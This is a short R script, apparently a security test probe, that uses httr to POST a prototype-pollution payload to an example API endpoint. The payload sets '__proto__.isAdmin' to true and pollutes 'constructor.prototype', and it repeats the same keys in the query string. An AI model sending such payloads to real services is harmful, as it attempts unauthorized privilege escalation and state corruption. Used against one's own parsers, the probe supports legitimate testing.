library(httr)

body <- r"({
  "__proto__": {
    "isAdmin": true
  },
  "constructor": {
    "prototype": {
      "polluted": true
    }
  },
  "toString": "x",
  "list": [
    {
      "__proto__": null
    }
  ]
})"

response <- POST(
  "https://api.example.com/v1/proto?__proto__=q&constructor=c&filter%5B__proto__%5D=nested",
  add_headers(
    "Content-Type" = "application/json"
  ),
  body = body
)

cat(content(response, as = "text", encoding = "UTF-8"))
